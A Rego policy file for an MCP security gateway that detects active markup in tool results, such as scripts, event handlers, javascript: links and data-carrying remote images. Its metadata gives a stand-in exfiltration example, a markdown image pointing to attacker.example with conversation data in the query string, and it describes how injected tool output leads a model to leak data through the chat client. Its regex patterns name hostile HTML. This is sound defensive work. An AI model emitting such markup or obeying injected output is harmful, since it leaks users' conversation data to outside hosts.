# METADATA
# title: Answers do not act in the chat window
# description: >-
#   Warns of (or denies) results and errors with markup that a chat client would act on when it shows them: pictures from
#   elsewhere whose address carries data, scripts, frames, event handlers, and links that run code.
# custom:
#   severity: medium
#   category: injection
#   since: 0.2.0
#   owasp_llm: [LLM05:2025, LLM02:2025]
#   owasp_mcp: [MCP06:2025, MCP10:2025]
#   does: warn (or deny)
#   remediation: Ask for the text without markup, or list the hosts of pictures that you trust.
#   why: >-
#     `![logo](https://attacker.example/p.png?d=…)` in a result: the model repeats it with the conversation filled in for the
#     dots, the client loads the picture, and the data is gone without a single call of a tool.
#   false_positives: >-
#     Tools that fetch web pages as HTML give scripts all day, so a warning is the default. Pictures of your own hosts belong
#     into `hosts`. A text with 200 pictures counts as one with a picture from elsewhere, wherever they come from.
#   misses: >-
#     Pictures by reference (`![a][b]`), styles, and links that a human has to click. With `images: query`, data in the path of
#     a picture's address.
#   settings:
#     action: "`warn` or `deny`"
#     images: "`query`: pictures whose address has a query; `any`: every picture from elsewhere"
#     hosts: "hosts that pictures may come from; `*.example.com` for all hosts in a domain, which is not itself one of them"
#     apps: "`true`: resources of the scheme `ui:`, which are made to be shown as pages, are not looked at"
package rules.injection.active_markup

import rego.v2

import data.lib.texts
import data.lib.urls

warn contains message if {
	_settings.action == "warn"
	some message in _found
}

deny contains message if {
	not _settings.action == "warn"
	some message in _found
}

deny contains "injection/active_markup is not configured: see its settings in data.yaml" if {
	_looked_at
	not _configured
}

_found contains $"the answer has {what}: ask for it without markup" if {
	_looked_at
	some text in _active
	some what, pattern in _patterns
	regex.match(pattern, text)
}

_found contains "the answer has a picture from elsewhere whose address can carry data: ask for it without markup" if {
	_looked_at
	some place in _picture_places
	not _listed(place)
}

# Each place once: a page can have many pictures of one host.
_picture_places contains split(url, "/")[2] if {
	some [_, url] in _pictures[_]
	_tells(url)
}

# Nobody looks at more than 200, so what comes behind them is on no list.
# sluice:equivalent change-constant any place that is on no list does
_picture_places contains "" if {
	count(_pictures[_]) == 200
}

# By text.
_pictures := [regex.find_all_string_submatch_n(_image, text, 200) |
	some text in _active
	# sluice:equivalent drop-expression without a picture the list of them is empty; to look costs less than to list
	regex.match(_image, text)
]

# Most texts have nothing of it: they are looked at once, not once a pattern.
_active := [text |
	some text in texts.said
	# sluice:equivalent drop-expression what no pattern finds together none finds alone; it only costs more
	regex.match(_any, text)
]

# Every host that some program may read in the address must be listed.
_listed(place) if {
	hosts := urls.hosts($"https://{place}")
	hosts != set()
	every host in hosts {
		urls.among(host, _settings.hosts)
	}
}

_tells(url) if contains(url, "?")

_tells(_) if not _settings.images == "query"

_looked_at if {
	input.from == "server"
	input.kind in {"result", "error"}
	input.method in {"tools/call", "resources/read", "prompts/get", "tasks/result"}
	not _app
}

_app if {
	_settings.apps == true
	input.method == "resources/read"
	startswith(input.params.uri, "ui://")
}

_any := concat("|", array.concat([_image], [pattern | some pattern in _patterns]))

_patterns := {
	"a script or a frame": `(?i)<(?:script|iframe|frame|object|embed)\b`,
	"an event handler": `(?i)<[a-z][^<>]*[\s"'/]on[a-z]+\s*=`,
	"a link that runs code": `(?i)(?:\]\(|(?:href|src|action)\s*=)\s*["'<]?\s*(?:javascript:|vbscript:|data:text/html)`,
}

# In Markdown and in HTML; the address is what the group takes.
_image := `(?i)(?:!\[[^\]\n]*\]\(\s*<?|<img\b[^<>]*\bsrc\s*=\s*["']?)(https?://[^\s"'()<>]+)`

_settings := data.settings["injection/active_markup"]

_configured if {
	_settings.action in {"warn", "deny"}
	_settings.images in {"query", "any"}
	is_array(_settings.hosts)
	is_boolean(_settings.apps)
}
